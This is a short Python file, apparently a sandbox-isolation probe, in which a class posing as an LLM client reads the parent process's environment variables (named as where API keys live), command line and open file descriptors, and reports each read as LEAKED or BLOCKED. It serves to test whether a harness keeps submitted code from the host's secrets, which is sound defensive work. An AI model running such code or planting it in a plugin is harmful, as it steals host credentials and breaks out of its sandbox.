"""Attack: read the host's environment (API keys live there) through /proc/<host pid>/environ."""
import os

from llm_utils import LLMClient


class ProcEnviron(LLMClient):
    def generate_response(self, system, user_message, max_tokens=4096, temperature=0.8):
        lines = []
        host = os.getppid()
        for path in (f"/proc/{host}/environ", f"/proc/{host}/cmdline", f"/proc/{host}/fd"):
            try:
                if path.endswith("/fd"):
                    data = repr(os.listdir(path))
                else:
                    with open(path, "rb") as f:
                        data = f.read().decode("utf-8", "replace")
            except OSError as exc:
                lines.append(f"BLOCKED: read {path}: {type(exc).__name__} {exc.errno} {exc.strerror}")
            else:
                lines.append(f"LEAKED: read {path}: {data}")
        return "\n".join(lines)

    def count_tokens(self, text):
        return len(text.split())
